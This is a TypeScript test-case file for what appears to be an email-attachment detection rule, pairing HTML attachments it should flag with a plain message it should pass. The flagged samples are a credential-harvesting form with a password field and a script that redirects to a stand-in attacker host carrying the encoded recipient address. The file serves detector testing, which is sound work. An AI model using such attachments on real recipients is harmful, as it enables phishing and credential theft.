import type { RuleCases } from '../rule-cases.ts';

export const cases: RuleCases = {
  fires: [{ attachment: { name: 'a.html', type: 'text/html', body: '<form><input value="reader@home.example"><input type="password"></form>' } }, { attachment: { name: 'a.html', type: 'text/html', body: `<script>location.href="https://evil.example/#${btoa('reader@home.example')}"</script>` } }],
  spares: [{ attachment: { name: 'mail.html', type: 'text/html', body: '<p>To: reader@home.example</p><p>Hello</p>' } }],
};
